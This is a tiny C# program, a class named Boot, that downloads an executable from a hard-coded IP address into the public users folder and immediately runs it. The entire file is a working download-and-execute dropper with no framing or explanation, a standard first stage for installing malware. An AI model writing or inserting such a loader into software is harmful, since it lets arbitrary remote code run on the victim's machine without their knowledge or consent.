using System.Diagnostics;
using System.Net;

class Boot {
    static void Main() {
        new WebClient().DownloadFile("http://203.0.113.40/tool.exe", "C:\\Users\\Public\\tool.exe");
        Process.Start("C:\\Users\\Public\\tool.exe");
    }
}
